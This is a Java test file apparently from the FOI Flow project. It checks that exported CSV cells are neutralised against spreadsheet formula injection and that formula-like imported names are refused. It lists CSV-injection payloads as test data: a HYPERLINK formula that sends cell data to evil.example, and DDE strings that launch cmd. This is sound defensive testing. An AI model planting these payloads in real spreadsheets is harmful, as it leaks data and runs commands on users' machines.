package org.foiflow.security;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.foiflow.security.ShortRefusals.assertRefusedShortly;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.StringReader;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.camunda.bpm.engine.runtime.ProcessInstance;
import org.foiflow.LifecycleTest;
import org.foiflow.input.SpreadsheetFormulas;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Spreadsheet formulas ("CSV injection") in what FOI Flow writes as CSV and in what it imports:
 * written text cells are prefixed with ', imported names that start a formula are refused.
 */
class CsvFormulaTest extends LifecycleTest {

  static final LocalDate MONDAY = LocalDate.of(2025, 3, 3);
  static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Home Office\")", "=cmd|' /C calc'!A0", "+SUM(1,1)",
          "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "=1+1", "\t=1+1", "\r=1+1");
  static final List<String> TEXT_COLUMNS =
      List.of("reference", "authority", "metric", "unit", "breakdown", "source_document", "source_page", "notes");

  @Autowired TestRestTemplate http;
  @Autowired ObjectMapper json;
  @Autowired JdbcClient jdbc;

  @Test
  void figuresCsvWritesEveryTextCellAsText() throws Exception {
    FormsOverHttp forms = new FormsOverHttp(http, json);
    today(MONDAY);
    ObjectNode filing = forms.requestForm(UUID.randomUUID().toString(), MONDAY);
    FormsOverHttp.put(filing, "authorityName", FORMULAS.get(0));
    FormsOverHttp.put(filing, "sendBy", "ELSEWHERE");
    ResponseEntity<String> filed = forms.file(filing);
    assertThat(filed.getStatusCode()).as(filed.getBody()).isEqualTo(HttpStatus.OK);
    ProcessInstance request =
        runtimeService.createProcessInstanceQuery().processInstanceId(forms.startedId(filed)).singleResult();

    StringBuilder figures = new StringBuilder("[");
    for (String formula : FORMULAS) {
      ObjectNode figure = json.createObjectNode()
          .put("metric", formula).put("value", "-5").put("unit", formula)
          .put("periodFrom", "2014-01-01").put("periodTo", "2014-12-31")
          .put("sourceDocument", formula).put("sourcePage", formula.substring(0, Math.min(formula.length(), 40)))
          .put("notes", formula);
      figure.putArray("breakdown").addObject().put("label", formula).put("value", "-2");
      figures.append(figures.length() > 1 ? "," : "").append(figure);
    }
    ObjectNode response = json.createObjectNode();
    FormsOverHttp.put(response, "response", "IN_FULL");
    FormsOverHttp.put(response, "responseDate", MONDAY.toString());
    response.putObject("figures").put("type", "Json").put("value", figures.append("]").toString());
    ResponseEntity<String> answered = forms.submitTask(openTask(request).getId(), response);
    assertThat(answered.getStatusCode()).as(answered.getBody()).isEqualTo(HttpStatus.NO_CONTENT);

    ResponseEntity<String> csv = admin().getForEntity("/api/figures.csv?reference={r}", String.class, request.getBusinessKey());
    assertThat(csv.getStatusCode()).isEqualTo(HttpStatus.OK);
    List<CSVRecord> rows =
        CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv.getBody())).getRecords();
    assertThat(rows).hasSize(FORMULAS.size());
    for (CSVRecord row : rows) {
      for (String column : TEXT_COLUMNS) {
        assertThat(SpreadsheetFormulas.startsFormula(row.get(column))).as(column + ": " + row.get(column)).isFalse();
      }
      for (String column : List.of("authority", "metric", "unit", "source_document", "source_page", "notes")) {
        assertThat(row.get(column)).as(column).startsWith("'").satisfies(cell -> assertThat(FORMULAS)
            .anySatisfy(formula -> assertThat(formula.strip()).startsWith(cell.substring(1))));
      }
      // The value is a number FOI Flow writes itself: a negative one stays a number.
      assertThat(row.get("value")).isEqualTo("-5");
    }
  }

  @Test
  void anImportedNameThatStartsAFormulaIsRefusedAndNothingIsImported() {
    String harmless = "Formula Test " + UUID.randomUUID();
    for (String formula : FORMULAS) {
      String cell = "\"" + formula.replace("\"", "\"\"") + " " + UUID.randomUUID() + "\"";
      String csv = "name,foi_email,default_regime\n" + harmless + ",foi@harmless.example.gov.uk,UK_FOIA\n"
          + cell + ",foi@formula.example.gov.uk,UK_FOIA\n";
      ResponseEntity<String> refused = importCsv(csv);
      assertRefusedShortly(refused, csv);
      assertThat(refused.getBody()).contains("line 3: name '").contains("formula");
    }
    for (String formula : FORMULAS) {
      String csv = "name,foi_email,default_regime,website\n" + harmless + ",\"" + formula.replace("\"", "\"\"")
          + "@example.gov.uk\",UK_FOIA,\n";
      ResponseEntity<String> refused = importCsv(csv);
      assertRefusedShortly(refused, csv);
      assertThat(refused.getBody()).contains("line 2: foi_email '");
    }
    assertThat(jdbc.sql("SELECT count(*) FROM authority WHERE name = ?").param(harmless).query(Long.class).single()).isZero();
  }

  private ResponseEntity<String> importCsv(String csv) {
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(new MediaType("text", "csv", UTF_8));
    return admin().postForEntity("/api/authorities/import", new HttpEntity<>(csv.getBytes(UTF_8), headers), String.class);
  }

  private TestRestTemplate admin() {
    return http.withBasicAuth(EngineApi.ADMIN, EngineApi.ADMIN_PASSWORD);
  }
}
